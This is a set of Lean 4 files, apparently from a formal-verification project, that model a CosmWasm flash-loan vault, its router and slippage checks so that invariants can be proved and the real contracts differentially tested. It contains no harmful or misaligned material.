  lpVault : Nat         -- LP tokens held by the vault itself
  ctr : Nat             -- LOAN_COUNTER
  fees : VFees
  depOn : Bool
  wdOn : Bool
  flOn : Bool
  ab : List Nat         -- asset balances of accounts 0..4
  lb : List Nat         -- LP balances of accounts 0..3
  assetSupply : Nat     -- total supply of the vault asset (ghost for native, real for cw20)
deriving Repr, DecidableEq

/-- `Fee::compute` on a Uint128 loan amount (fits: share < 1) -/
def fee (share amt : Nat) : Nat := amt * share / E18

/-- what a borrower's callback can do (messages executed in order by the borrower contract) -/
inductive Act where
  | pay (n : Nat)                 -- transfer n of the asset to the vault
  | deposit (n : Nat)             -- call Deposit{n} with n attached / allowed
  | withdraw (lp : Nat)           -- Send lp LP tokens to the vault with the Withdraw hook
  | collect                       -- CollectProtocolFees
  | transferOut (to n : Nat)      -- send n of the asset to account `to`
  | fail                          -- a message that errors
  | loan (n : Nat) (cb : List Act)-- another FlashLoan from inside the callback
deriving Repr

/-- move `n` of the asset from account `a` to the vault -/
def payIn (s : St) (a n : Nat) : Option St :=
  if n = 0 then (if s.kind = 0 then none else some s)
  else if getN s.ab a < n then none
  else some { s with ab := setN s.ab a (getN s.ab a - n), bal := s.bal + n }

/-- move `n` of the asset from the vault to account `a` -/
def payOut (s : St) (a n : Nat) : Option St :=
  if n = 0 then (if s.kind = 0 then none else some s)
  else if s.bal < n then none
  else some { s with ab := setN s.ab a (getN s.ab a + n), bal := s.bal - n }

/-- `deposit`: `who` calls Deposit{amount} having attached (native) / allowed (cw20) `sent`. -/
def deposit (s : St) (who amount sent : Nat) : Option St :=
  -- native funds arrive before the handler runs (bank rejects an unfunded or all-zero send;
  -- an empty funds list is fine and is what `sent = 0` stands for)
  if s.kind = 0 ∧ getN s.ab who < sent then none else
  let balAtHandler := if s.kind = 0 then s.bal + sent else s.bal
  if !s.depOn then none else
  if s.ctr ≠ 0 then none else
  if sent ≠ amount then none else
  if s.sup = 0 then
    -- first deposit: amount - MINIMUM_LIQUIDITY_AMOUNT to the depositor, the minimum to the vault
    if amount < Gen.MINIMUM_LIQUIDITY_AMOUNT then none else
    let share := amount - Gen.MINIMUM_LIQUIDITY_AMOUNT
    if share = 0 then none else
    -- cw20: TransferFrom must succeed (balance; amount > 0 here)
    if s.kind = 1 ∧ getN s.ab who < amount then none else
    if Gen.MINIMUM_LIQUIDITY_AMOUNT = 0 then none else
    some { s with
      bal := s.bal + amount
      ab := setN s.ab who (getN s.ab who - amount)
      sup := amount
      lpVault := s.lpVault + Gen.MINIMUM_LIQUIDITY_AMOUNT
      lb := setN s.lb who (getN s.lb who + share) }
  else
    let depositAmount := if s.kind = 0 then amount else 0
    if balAtHandler < s.pend then none else
    if balAtHandler - s.pend < depositAmount then none else
    let totalDeposits := balAtHandler - s.pend - depositAmount
    if totalDeposits = 0 then none else
    let lp := amount * s.sup / totalDeposits
    if lp > U128MAX then none else
    -- cw20 TransferFrom beyond the balance fails (a zero amount is fine, and so is minting zero LP)
    if s.kind = 1 ∧ getN s.ab who < amount then none else
    if s.sup + lp > U128MAX then none else
    some { s with
      bal := s.bal + amount
      ab := setN s.ab who (getN s.ab who - amount)
      sup := s.sup + lp
      lb := setN s.lb who (getN s.lb who + lp) }

/-- what `withdraw` pays for `lp` shares in state `s` (also the `Share` query) -/
def shareOf (s : St) (lp : Nat) : Nat := (s.bal - s.pend) * (lp * E18 / s.sup) / E18

/-- `withdraw`: `who` Sends `lp` LP tokens to the vault with the Withdraw hook -/
def withdraw (s : St) (who lp : Nat) : Option St :=
  if getN s.lb who < lp then none else
  if !s.wdOn then none else
  if s.bal < s.pend then none else
  if s.sup = 0 then none else
  let out := shareOf s lp
  if out = 0 ∧ s.kind = 0 then none else
  if s.bal < out then none else
  some { s with
    bal := s.bal - out
    ab := setN s.ab who (getN s.ab who + out)
    lb := setN s.lb who (getN s.lb who - lp)
    sup := s.sup - lp }

/-- `collect_protocol_fees` (anyone): pending fees go to the collector (account 4) -/
def collect (s : St) : Option St :=
  if s.pend = 0 then some s
  else if s.bal < s.pend then none
  else some { s with bal := s.bal - s.pend, ab := setN s.ab 4 (getN s.ab 4 + s.pend), pend := 0 }

/-- `after_trade` with the balance recorded when the loan was taken -/
def afterTrade (s : St) (old amount : Nat) : Option St :=
  let pf := fee s.fees.prot amount
  let ff := fee s.fees.flash amount
  let bf := fee s.fees.burn amount
  if old + pf + ff + bf > U128MAX then none else
  if old + pf + ff + bf > s.bal then none else
  if s.pend + pf > U128MAX ∨ s.allTime + pf > U128MAX then none else
  let s1 := { s with pend := s.pend + pf, allTime := s.allTime + pf, ctr := s.ctr - 1 }
  if bf = 0 then some s1
  else if s1.burned + bf > U128MAX then none
  else some { s1 with burned := s1.burned + bf, bal := s1.bal - bf, assetSupply := s1.assetSupply - bf }

mutual
/-- one message of the borrower's callback; the borrower is account 3 -/
def run : St → Act → Option St
  | s, .pay n => payIn s 3 n
  | s, .deposit n => deposit s 3 n n
  | s, .withdraw lp => withdraw s 3 lp
  | s, .collect => collect s
  | s, .transferOut to n =>
      if (n = 0 ∧ s.kind = 0) ∨ getN s.ab 3 < n ∨ to ≥ 3 then none
      else some { s with ab := setN (setN s.ab 3 (getN s.ab 3 - n)) to (getN s.ab to + n) }
  | _, .fail => none
  | s, .loan n cb => loanFrom s n cb
/-- the messages of a callback, in order; the first failure reverts everything -/
def runs : St → List Act → Option St
  | s, [] => some s
  | s, a :: as =>
    match run s a with
    | none => none
    | some s' => runs s' as
/-- `FlashLoan{amount, msg}` sent by the borrower contract (account 3) whose callback is `cb` -/
def loanFrom : St → Nat → List Act → Option St
  | s, amount, cb =>
    if !s.flOn then none else
    if s.ctr ≠ 0 then none else
    if s.ctr + 1 > 4294967295 then none else
    let old := s.bal
    match payOut { s with ctr := s.ctr + 1 } 3 amount with
    | none => none
    | some s1 =>
      match runs s1 cb with
      | none => none
      | some s2 => afterTrade s2 old amount
end

/-- top-level operations (each is one transaction) -/
inductive Op where
  | deposit (who amount sent : Nat)
  | withdraw (who lp : Nat)
  | collect
  | setFees (f : VFees)               -- UpdateConfig{new_vault_fees} by the owner
  | setToggles (dep wd fl : Bool)     -- UpdateConfig{…_enabled} by the owner
  | loan (amount : Nat) (cb : List Act)
  | donate (who n : Nat)              -- plain transfer of the asset to the vault
deriving Repr

def step (s : St) : Op → Option St
  | .deposit who amount sent => if who ≥ 4 then none else deposit s who amount sent
  | .withdraw who lp => if who ≥ 4 then none else withdraw s who lp
  | .collect => collect s
  | .setFees f => if f.valid then some { s with fees := f } else none
  | .setToggles d w f => some { s with depOn := d, wdOn := w, flOn := f }
  | .loan amount cb => loanFrom s amount cb
  | .donate who n => if who ≥ 4 then none else payIn s who n

/-- a failed transaction leaves the state untouched -/
def apply (s : St) (op : Op) : St := (step s op).getD s

def reach (s : St) (ops : List Op) : St := ops.foldl apply s

def init (kind : Nat) (f : VFees) (ab : List Nat) : St :=
  { kind := kind, bal := 0, pend := 0, allTime := 0, burned := 0, sup := 0, lpVault := 0, ctr := 0,
    fees := f, depOn := true, wdOn := true, flOn := true, ab := ab, lb := [0, 0, 0, 0],
    assetSupply := ab.foldl (· + ·) 0 }

/-- `GetPaybackAmount` -/
def payback (s : St) (amount : Nat) : Nat :=
  amount + fee s.fees.prot amount + fee s.fees.flash amount + fee s.fees.burn amount

end WW.Vault
