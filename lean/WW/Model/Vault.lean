/-
  Executable model of the flash-loan vault (contracts/liquidity_hub/vault-network/vault):
  deposit, withdraw (cw20 Send hook of the LP token), collect_protocol_fees, update_config,
  flash_loan with an arbitrary borrower callback tree, after_trade, and plain transfers;
  and of the vault router (vault-network/vault_router): FlashLoan → vault.FlashLoan with the ROUTER as
  borrower → NextLoan (payload messages executed as the router) → CompleteLoan → the vault's after_trade.

  Accounts: 0,1,2 users · 3 the borrower contract (adversary) · 4 the fee collector · 5 the vault router.
  Every execute message can carry native coins it does not ask for (`Op.attach`): see there for what
  the real handlers do with them.
  `kind`: 0 = native vault asset, 1 = cw20 vault asset. The LP token is always a cw20
  (default cargo features). A failed operation returns `none`: CosmWasm reverts everything.
  Zero-amount *native* transfers fail (bank: "Cannot transfer empty coins amount") while zero-amount
  cw20 transfers / mints / burns succeed (cw20-base 1.1 has no zero check); both are observable
  and therefore modelled.
-/
import WW.Cw.Arith
import WW.Gen.Constants
namespace WW.Vault
open WW

def getN (l : List Nat) (i : Nat) : Nat := l.getD i 0
def setN : List Nat → Nat → Nat → List Nat
  | [], _, _ => []
  | _ :: xs, 0, v => v :: xs
  | x :: xs, i + 1, v => x :: setN xs i v

structure VFees where
  prot : Nat
  flash : Nat
  burn : Nat
deriving Repr, DecidableEq

/-- `VaultFee::is_valid` -/
def VFees.valid (f : VFees) : Bool :=
  f.prot < E18 && f.flash < E18 && f.burn < E18 && f.prot + f.flash + f.burn < E18

structure St where
  kind : Nat            -- 0 native, 1 cw20
  bal : Nat             -- the vault's balance of its asset
  pend : Nat            -- COLLECTED_PROTOCOL_FEES
  allTime : Nat         -- ALL_TIME_COLLECTED_PROTOCOL_FEES
  burned : Nat          -- ALL_TIME_BURNED_FEES
  sup : Nat             -- LP token total supply
  lpVault : Nat         -- LP tokens held by the vault itself
  ctr : Nat             -- LOAN_COUNTER
  fees : VFees
  depOn : Bool
  wdOn : Bool
  flOn : Bool
  ab : List Nat         -- asset balances of accounts 0..5 (5 = the vault router)
  lb : List Nat         -- LP balances of accounts 0..3
  assetSupply : Nat     -- total supply of the vault asset (ghost for native, real for cw20)
  sent : Nat            -- GHOST: total protocol fees ever transferred to the fee collector by collections
  jb : List Nat         -- balances of an UNRELATED native denom (`ujunk`): accounts 0..5, 6 = the vault's owner, 7 = the vault
deriving Repr, DecidableEq

/-- `Fee::compute` on a Uint128 loan amount (fits: share < 1) -/
def fee (share amt : Nat) : Nat := amt * share / E18

/-- `GetPaybackAmount` -/
def payback (s : St) (amount : Nat) : Nat :=
  amount + fee s.fees.prot amount + fee s.fees.flash amount + fee s.fees.burn amount

/-- what a borrower's callback can do (messages executed in order by the borrower contract) -/
inductive Act where
  | pay (n : Nat)                 -- transfer n of the asset to the vault
  | deposit (n : Nat)             -- call Deposit{n} with n attached / allowed
  | withdraw (lp : Nat)           -- Send lp LP tokens to the vault with the Withdraw hook
  | collect                       -- CollectProtocolFees
  | transferOut (to n : Nat)      -- send n of the asset to account `to`
  | fail                          -- a message that errors
  | loan (n : Nat) (cb : List Act)-- another FlashLoan from inside the callback
deriving Repr

/-- move `n` of the asset from account `a` to the vault -/
def payIn (s : St) (a n : Nat) : Option St :=
  if (n = 0 ∧ s.kind = 0) ∨ getN s.ab a < n then none
  else some { s with ab := setN s.ab a (getN s.ab a - n), bal := s.bal + n }

/-- move `n` of the asset from the vault to account `a` -/
def payOut (s : St) (a n : Nat) : Option St :=
  if (n = 0 ∧ s.kind = 0) ∨ s.bal < n then none
  else some { s with ab := setN s.ab a (getN s.ab a + n), bal := s.bal - n }

/-- LP minted by a deposit of `amount`: the first deposit keeps `MINIMUM_LIQUIDITY_AMOUNT` for the
    vault itself; later ones get `amount * total_share / total_deposits` (floor), where
    `total_deposits` = balance − pending protocol fees, *excluding* the deposit itself (native funds
    have already arrived and are subtracted; a cw20 `TransferFrom` lands after the computation). -/
def depositMint (s : St) (amount : Nat) : Nat :=
  if s.sup = 0 then amount - Gen.MINIMUM_LIQUIDITY_AMOUNT else amount * s.sup / (s.bal - s.pend)

/-- every way `Deposit{amount}` with `sent` attached (native) / allowed (cw20) can fail -/
def depositOk (s : St) (who amount sent : Nat) : Bool :=
  decide (amount ≤ getN s.ab who)            -- bank send / cw20 TransferFrom needs the funds
  && s.depOn                                  -- DepositsDisabled
  && decide (s.ctr = 0)                       -- DepositDuringLoan
  && decide (sent = amount)                   -- FundsMismatch
  && (if s.sup = 0 then decide (Gen.MINIMUM_LIQUIDITY_AMOUNT < amount)   -- InvalidInitialLiquidityAmount
      else decide (s.pend ≤ s.bal)            -- checked_sub of the pending fees
        && decide (s.bal - s.pend ≠ 0)        -- checked_div by zero deposits
        && decide (s.sup + depositMint s amount ≤ U128MAX))  -- try_into / cw20 supply overflow

def depositRes (s : St) (who amount : Nat) : St :=
  { s with
    bal := s.bal + amount
    ab := setN s.ab who (getN s.ab who - amount)
    sup := s.sup + depositMint s amount + (if s.sup = 0 then Gen.MINIMUM_LIQUIDITY_AMOUNT else 0)
    lpVault := s.lpVault + (if s.sup = 0 then Gen.MINIMUM_LIQUIDITY_AMOUNT else 0)
    lb := setN s.lb who (getN s.lb who + depositMint s amount) }

/-- `deposit`: `who` calls Deposit{amount} having attached (native) / allowed (cw20) `sent`. -/
def deposit (s : St) (who amount sent : Nat) : Option St :=
  if depositOk s who amount sent then some (depositRes s who amount) else none

/-- what `withdraw` pays for `lp` shares in state `s` (also the `Share` query):
    `Decimal::from_ratio(lp, total_share) * (balance − pending fees)`, two floors -/
def shareOf (s : St) (lp : Nat) : Nat := (s.bal - s.pend) * (lp * E18 / s.sup) / E18

def withdrawOk (s : St) (who lp : Nat) : Bool :=
  decide (lp ≤ getN s.lb who)                 -- cw20 Send of the LP tokens
  && s.wdOn                                   -- WithdrawsDisabled
  && decide (s.pend ≤ s.bal)
  && decide (s.sup ≠ 0)                       -- from_ratio divides by the total share
  && !(decide (shareOf s lp = 0) && decide (s.kind = 0))   -- native zero-amount send fails
  && decide (shareOf s lp ≤ s.bal)

def withdrawRes (s : St) (who lp : Nat) : St :=
  { s with
    bal := s.bal - shareOf s lp
    ab := setN s.ab who (getN s.ab who + shareOf s lp)
    lb := setN s.lb who (getN s.lb who - lp)
    sup := s.sup - lp }

/-- `withdraw`: `who` Sends `lp` LP tokens to the vault with the Withdraw hook -/
def withdraw (s : St) (who lp : Nat) : Option St :=
  if withdrawOk s who lp then some (withdrawRes s who lp) else none

def collectRes (s : St) : St :=
  { s with bal := s.bal - s.pend, ab := setN s.ab 4 (getN s.ab 4 + s.pend), pend := 0, sent := s.sent + s.pend }

/-- `collect_protocol_fees` (anyone): pending fees go to the collector (account 4);
    nothing is sent when nothing is pending -/
def collect (s : St) : Option St :=
  if s.pend = 0 then some s
  else if s.bal < s.pend then none
  else some (collectRes s)

def afterTradeOk (s : St) (old amount : Nat) : Bool :=
  decide (old + fee s.fees.prot amount + fee s.fees.flash amount + fee s.fees.burn amount ≤ U128MAX)
  && decide (old + fee s.fees.prot amount + fee s.fees.flash amount + fee s.fees.burn amount ≤ s.bal)  -- NegativeProfit
  && decide (s.pend + fee s.fees.prot amount ≤ U128MAX)
  && decide (s.allTime + fee s.fees.prot amount ≤ U128MAX)
  && decide (s.burned + fee s.fees.burn amount ≤ U128MAX)

def afterTradeRes (s : St) (amount : Nat) : St :=
  { s with
    pend := s.pend + fee s.fees.prot amount
    allTime := s.allTime + fee s.fees.prot amount
    ctr := s.ctr - 1
    burned := s.burned + fee s.fees.burn amount
    bal := s.bal - fee s.fees.burn amount
    assetSupply := s.assetSupply - fee s.fees.burn amount }

/-- `after_trade` with the balance recorded when the loan was taken -/
def afterTrade (s : St) (old amount : Nat) : Option St :=
  if afterTradeOk s old amount then some (afterTradeRes s amount) else none

def transferOut (s : St) (to n : Nat) : Option St :=
  if (n = 0 ∧ s.kind = 0) ∨ getN s.ab 3 < n ∨ to ≥ 3 then none
  else some { s with ab := setN (setN s.ab 3 (getN s.ab 3 - n)) to (getN (setN s.ab 3 (getN s.ab 3 - n)) to + n) }

mutual
/-- one message of the borrower's callback; the borrower is account 3.
    `.loan amount cb` is `FlashLoan{amount, msg}` sent by the borrower contract whose callback is
    `cb`: guard, counter + 1, funds out, the callback's messages, then `after_trade`. -/
def run : St → Act → Option St
  | s, .pay n => payIn s 3 n
  | s, .deposit n => deposit s 3 n n
  | s, .withdraw lp => withdraw s 3 lp
  | s, .collect => collect s
  | s, .transferOut to n => transferOut s to n
  | _, .fail => none
  | s, .loan amount cb =>
    if !s.flOn then none else
    if s.ctr ≠ 0 then none else
    if s.ctr + 1 > 4294967295 then none else
    match payOut { s with ctr := s.ctr + 1 } 3 amount with
    | none => none
    | some s1 =>
      match runs s1 cb with
      | none => none
      | some s2 => afterTrade s2 s.bal amount
/-- the messages of a callback, in order; the first failure reverts everything -/
def runs : St → List Act → Option St
  | s, [] => some s
  | s, a :: as =>
    match run s a with
    | none => none
    | some s' => runs s' as
end

/-- a flash loan of `amount` taken by the borrower contract with callback tree `cb` -/
def loanFrom (s : St) (amount : Nat) (cb : List Act) : Option St := run s (.loan amount cb)

/-! ### the vault router -/

/-- plain transfer of `n` of the asset from account `src` to account `dst` (bank send / cw20 transfer) -/
def move (s : St) (src dst n : Nat) : Option St :=
  if (n = 0 ∧ s.kind = 0) ∨ getN s.ab src < n then none
  else some { s with ab := setN (setN s.ab src (getN s.ab src - n)) dst (getN (setN s.ab src (getN s.ab src - n)) dst + n) }

/-- the router's `CompleteLoan{initiator, loaned_assets = [(vault, amount)]}` (sender = the router itself):
    query the vault's `GetPaybackAmount(amount)` (checked adds), read the router's WHOLE balance of the
    asset, `NegativeProfit` if it is below the payback, send the payback to the vault and — if non-zero —
    the entire remainder to the initiator. -/
def completeLoan (s : St) (initiator amount : Nat) : Option St :=
  if payback s amount > U128MAX then none else
  if getN s.ab 5 < payback s amount then none else
  match payIn s 5 (payback s amount) with
  | none => none
  | some s1 =>
    if getN s.ab 5 - payback s amount = 0 then some s1
    else move s1 5 initiator (getN s.ab 5 - payback s amount)

/-- what the payload of a router flash loan can do: messages executed in order AS THE ROUTER -/
inductive RAct where
  | fund (n : Nat)                -- the borrower contract (account 3) is told to send n of the asset to the router
  | out (dst n : Nat)             -- the router sends n of the asset to user `dst`
  | pay (n : Nat)                 -- the router sends n of the asset straight to the vault
  | collect                       -- the router calls the vault's CollectProtocolFees
  | deposit (n : Nat)             -- the router calls the vault's Deposit{n} (n attached / allowed)
  | fail                          -- a message that errors
  | adv (acts : List Act)         -- the borrower contract is told to run `acts` (its whole alphabet, see `Act`)
  | complete (initiator n : Nat)  -- the router calls its own CompleteLoan early (sender = router: allowed)
  | routerLoan (initiator n : Nat) (payload : List RAct)  -- router FlashLoan{[n], payload} sent by `initiator`
deriving Repr

mutual
/-- one payload message. `.routerLoan initiator amount payload` is the whole router flash loan:
    the vault's guards (enabled, no loan in flight, counter + 1), funds out to the ROUTER (account 5),
    `NextLoan` = the payload's messages, `CompleteLoan`, then the vault's `after_trade` with the
    balance recorded when the loan was taken. (Inside a payload the sender of a further router
    FlashLoan is the router itself: `initiator = 5`; the vault refuses it anyway.) -/
def rrun : St → RAct → Option St
  | s, .fund n => move s 3 5 n
  | s, .out dst n => if dst ≥ 3 then none else move s 5 dst n
  | s, .pay n => payIn s 5 n
  | s, .collect => collect s
  | s, .deposit n => deposit s 5 n n
  | _, .fail => none
  | s, .adv acts => runs s acts
  | s, .complete initiator n => if initiator ≥ 4 then none else completeLoan s initiator n
  | s, .routerLoan initiator amount payload =>
    if !s.flOn then none else
    if s.ctr ≠ 0 then none else
    if s.ctr + 1 > 4294967295 then none else
    match payOut { s with ctr := s.ctr + 1 } 5 amount with
    | none => none
    | some s1 =>
      match rruns s1 payload with
      | none => none
      | some s2 =>
        match completeLoan s2 initiator amount with
        | none => none
        | some s3 => afterTrade s3 s.bal amount
/-- the payload's messages, in order; the first failure reverts everything -/
def rruns : St → List RAct → Option St
  | s, [] => some s
  | s, a :: as =>
    match rrun s a with
    | none => none
    | some s' => rruns s' as
end

/-- a flash loan of `amount` taken through the vault router by `initiator` with payload `payload` -/
def routerLoanFrom (s : St) (initiator amount : Nat) (payload : List RAct) : Option St :=
  rrun s (.routerLoan initiator amount payload)

/-- top-level operations (each is one transaction) -/
inductive Op where
  | deposit (who amount sent : Nat)
  | withdraw (who lp : Nat)
  | collect
  | setFees (f : VFees)               -- UpdateConfig{new_vault_fees} by the owner
  | setToggles (dep wd fl : Bool)     -- UpdateConfig{…_enabled} by the owner
  | loan (amount : Nat) (cb : List Act)
  | donate (who n : Nat)              -- plain transfer of the asset to the vault
  | routerLoan (initiator amount : Nat) (payload : List RAct)  -- router FlashLoan{[amount], payload}
  | routerLoanNone (who : Nat) (payload : List RAct)   -- router FlashLoan{[], payload}: nothing happens
  | routerLoanMulti (who a1 a2 : Nat) (payload : List RAct)  -- router FlashLoan with two assets
  | fundRouter (who n : Nat)          -- plain transfer of the asset to the router
  | nextLoanBy (who amount : Nat) (payload : List RAct)   -- router NextLoan called directly by account `who`
  | completeLoanBy (who initiator amount : Nat)           -- router CompleteLoan called directly by `who`
  /-- messages a cw20-LP vault must refuse whatever they carry: `ExecuteMsg::Withdraw {}` sent directly
      with any attached coins (`kind = 0`; the token-factory entry point: the LP denom it compares with
      is empty, `contract.rs`), a `Withdraw` hook arriving from a token that is not the LP token
      (`kind = 1`; `ExternalCallback`, `execute/receive/mod.rs`), `Callback(AfterTrade{a, b})` sent by an
      account that is not the vault itself (`kind = 2`; `ExternalCallback`, `execute/callback/mod.rs`) -/
  | foreign (kind who a b : Nat)
  /-- the message `op` sent with `n` native coins ATTACHED that it does not ask for, paid by its sender
      `who` (0..3; 6 = the vault's owner, who holds nothing of the vault asset). `sel = 0`: coins of the
      vault asset's own native denom (nobody holds such a coin when the asset is a cw20), `sel ≠ 0`: coins
      of an unrelated denom. Any CosmWasm execute message can carry coins: the bank moves them to the
      RECEIVING contract before the handler runs, and the whole transaction — the coins included —
      reverts when the handler or anything it triggers fails. None of the vault's handlers but `Deposit`
      and `Withdraw {}` looks at `info.funds`, none of the router's does (`flash_loan.rs` sends
      `funds: vec![]` on to the vault), so:
        * vault messages (`CollectProtocolFees`, `UpdateConfig`, `FlashLoan`, `Callback`, `Deposit` with an
          unrelated denom): the coins are a DONATION to the vault made before the handler reads any
          balance (for `FlashLoan`: before `old_balance` is recorded);
        * router messages (`FlashLoan`, `NextLoan`, `CompleteLoan`): the coins are the router's; of the
          vault asset's denom they are part of the balance `CompleteLoan` reads, so they leave with the
          remaining proceeds to the initiator; of another denom they stay with the router;
        * `Deposit` counts coins of the asset's denom as the deposit itself: that is the `sent` argument
          of `.deposit` (amount mismatch is refused) — `.attach _ 0 _ (.deposit …)` is not a separate
          message and the model refuses it (the driver adds such coins to `sent`);
        * an empty coin (`n = 0`) is refused by the bank. -/
  | attach (who sel n : Nat) (op : Op)
deriving Repr

/-- the contract an operation's message is sent to: 0 the vault, 1 the vault router; `none` for what is
    not an execute message of either (plain transfers; a cw20 `Send` goes to the token contract) -/
def Op.recv : Op → Option Nat
  | .deposit _ _ _ => some 0
  | .withdraw _ _ => none
  | .collect => some 0
  | .setFees _ => some 0
  | .setToggles _ _ _ => some 0
  | .loan _ _ => some 0
  | .donate _ _ => none
  | .routerLoan _ _ _ => some 1
  | .routerLoanNone _ _ => some 1
  | .routerLoanMulti _ _ _ _ => some 1
  | .fundRouter _ _ => none
  | .nextLoanBy _ _ _ => some 1
  | .completeLoanBy _ _ _ => some 1
  | .foreign k _ _ _ => if k = 1 then none else some 0
  | .attach _ _ _ op => op.recv

/-- `Deposit` (with or without further coins attached) -/
def Op.isDeposit : Op → Bool
  | .deposit _ _ _ => true
  | .attach _ _ _ op => op.isDeposit
  | _ => false

/-- the message itself, without the coins attached to it -/
def Op.core : Op → Op
  | .attach _ _ _ op => op.core
  | op => op

/-- `n` units move from entry `src` to entry `dst` of a balance list -/
def lmove (l : List Nat) (src dst n : Nat) : List Nat :=
  setN (setN l src (getN l src - n)) dst (getN (setN l src (getN l src - n)) dst + n)

/-- `n` stray coins paid by `who` arrive at the contract the message is sent to (`dst`: 0 the vault,
    1 the router), before the handler runs -/
def arrive (s : St) (who sel n dst : Nat) : Option St :=
  if n = 0 then none
  else if sel = 0 then
    if s.kind ≠ 0 ∨ who ≥ 4 then none
    else if dst = 0 then payIn s who n else move s who 5 n
  else
    if (who ≥ 4 ∧ who ≠ 6) ∨ getN s.jb who < n then none
    else some { s with jb := lmove s.jb who (if dst = 0 then 7 else 5) n }

def step : St → Op → Option St
  | s, .deposit who amount sent => if who ≥ 4 then none else deposit s who amount sent
  | s, .withdraw who lp => if who ≥ 4 then none else withdraw s who lp
  | s, .collect => collect s
  | s, .setFees f => if f.valid then some { s with fees := f } else none
  | s, .setToggles d w f => some { s with depOn := d, wdOn := w, flOn := f }
  | s, .loan amount cb => loanFrom s amount cb
  | s, .donate who n => if who ≥ 4 then none else payIn s who n
  | s, .routerLoan initiator amount payload =>
    if initiator ≥ 4 then none else routerLoanFrom s initiator amount payload
  -- zero assets: the router emits no message at all (the payload is NOT run)
  | s, .routerLoanNone _ _ => some s
  -- more than one asset: NestedFlashLoansDisabled
  | _, .routerLoanMulti _ _ _ _ => none
  | s, .fundRouter who n => if who ≥ 4 then none else move s who 5 n
  -- NextLoan: the sender must be the factory-registered vault; accounts 0..3 never are
  | _, .nextLoanBy _ _ _ => none
  -- CompleteLoan: the sender must be the router itself; accounts 0..3 never are
  | _, .completeLoanBy _ _ _ => none
  | _, .foreign _ _ _ _ => none
  -- stray coins: they arrive first, then the message runs; all or nothing
  | s, .attach who sel n op =>
    match op.recv with
    | none => none
    | some dst =>
      if sel = 0 ∧ op.isDeposit = true then none else
      match arrive s who sel n dst with
      | none => none
      | some s1 => step s1 op

/-- a failed transaction leaves the state untouched -/
def apply (s : St) (op : Op) : St := (step s op).getD s

def reach (s : St) (ops : List Op) : St := ops.foldl apply s

/-- what the harness mints of the unrelated denom to accounts 0..3 and to the owner (2^100) -/
def JUNK0 : Nat := 1267650600228229401496703205376

def init (kind : Nat) (f : VFees) (ab : List Nat) : St :=
  { kind := kind, bal := 0, pend := 0, allTime := 0, burned := 0, sup := 0, lpVault := 0, ctr := 0,
    fees := f, depOn := true, wdOn := true, flOn := true, ab := ab, lb := [0, 0, 0, 0],
    assetSupply := ab.foldl (· + ·) 0, sent := 0, jb := [JUNK0, JUNK0, JUNK0, JUNK0, 0, 0, JUNK0, 0] }

end WW.Vault
