/-
  Call-site models for C15: what the pair, the 3pool and the router *pass* to the assertions of
  `WW/Model/Slippage.lean`, on a freshly provisioned pool (reserves = the first deposit, no pending
  protocol fees).  Used by the `slippage:exec` correspondence (operations executed on the real
  contracts in cw-multi-test) and by the route theorem of `WW/Props/C15.lean`.
-/
import WW.Model.CpSwap
import WW.Model.Slippage
namespace WW

/-- `terraswap_pair::commands::swap` on a constant-product pair with reserves `(op, ap)`:
    `compute_swap`, then `assert_max_spread(belief, max_spread, offer, return + fees, spread)`.
    Returns what the receiver is paid. -/
def pairSwapChecked (op ap off : Nat) (f : Fees) (belief maxSpread : Option Nat) : Res Nat := do
  let c ← cpSwap op ap off f
  -- swap_fee.checked_add(protocol_fee)?.checked_add(burn_fee)?
  let fees ← cadd U128MAX c.swapFee c.protFee
  let fees ← cadd U128MAX fees c.burnFee
  -- return_asset.amount.checked_add(fees)?
  let gross ← cadd U128MAX c.ret fees
  assertMaxSpread belief maxSpread off gross c.spread
  pure c.ret

/-- second `ProvideLiquidity` on a constant-product pair whose first deposit was `(p0, p1)`
    (total LP supply `⌊√(p0·p1)⌋`): LP amount `min(d0·S/p0, d1·S/p1)`, then the tolerance assertion.
    Returns the LP minted (the LP token accepts a zero mint). -/
def cpDepositChecked (p0 p1 d0 d1 : Nat) (tol : Option Nat) : Res Nat := do
  let supply := isqrt (p0 * p1)
  let a0 ← mulRatioP U128MAX d0 supply p0
  let a1 ← mulRatioP U128MAX d1 supply p1
  let amount := Nat.min a0 a1
  pairAssertSlippage tol d0 d1 p0 p1 .constantProduct amount supply
  pure amount

/-- stableswap deposit (two-asset pair): `amount` is the contract's own LP computation -/
def ssDepositChecked (p0 p1 d0 d1 : Nat) (tol : Option Nat) (amount supply : Nat) : Res Nat := do
  pairAssertSlippage tol d0 d1 p0 p1 .stableSwap amount supply
  pure amount

def trioDepositChecked (p0 p1 p2 d0 d1 d2 : Nat) (tol : Option Nat) (amount supply : Nat) : Res Nat := do
  trioAssertSlippage tol d0 d1 d2 p0 p1 p2 amount supply
  pure amount

/-- the hops of `ExecuteSwapOperations`: each `ExecuteSwapOperation` offers the router's whole balance
    of the hop's offer asset (= the previous hop's proceeds) with `belief_price: None` and the
    caller's `max_spread`; pairs are distinct fresh constant-product pools `(offer reserve, ask reserve)`.
    A hop that would offer nothing fails (empty bank transfer). -/
def routeHops (f : Fees) (maxSpread : Option Nat) : List (Nat × Nat) → Nat → Res Nat
  | [], off => .ok off
  | (x, y) :: rest, off =>
    if off = 0 then .err else
    match pairSwapChecked x y off f none maxSpread with
    | .ok r => routeHops f maxSpread rest r
    | .err => .err
    | .panic => .panic

/-- `execute_swap_operations` + the trailing `AssertMinimumReceive { prev_balance, minimum_receive }`
    message: `prev` is the receiver's balance of the final asset when the transaction starts.
    Returns the receiver's balance *increase*. -/
def routeChecked (f : Fees) (maxSpread minimum : Option Nat) (prev : Nat) (hops : List (Nat × Nat))
    (offer : Nat) : Res Nat := do
  let out ← routeHops f maxSpread hops offer
  match minimum with
  | none => pure out
  | some m => do
    assertMinimumReceive prev m (prev + out)
    pure out

end WW
