/-
  Literal replica of `incentive/src/weight.rs::calculate_weight` over `Decimal256` atomics
  (18 decimals, 256-bit) with every point at which the Rust returns `Err` or panics.
  Kept separate from the incentive state machine: it is differentially tested on its own
  (engine `weight`, through `incentive::verif_hooks::calculate_weight`).
-/
import WW.Cw.Arith
import WW.Gen.Constants
namespace WW
open WW.Gen

/-- `Decimal256::checked_mul`: full 512-bit product of the atomics, floor-divided by 10^18,
    `Err(Overflow)` when the result does not fit 256 bits. -/
@[inline] def dmulC (a b : Nat) : Res Nat :=
  if a * b / E18 ≤ U256MAX then .ok (a * b / E18) else .err

/-- `Decimal256::checked_div` = `checked_from_ratio(self.atomics, other.atomics)`:
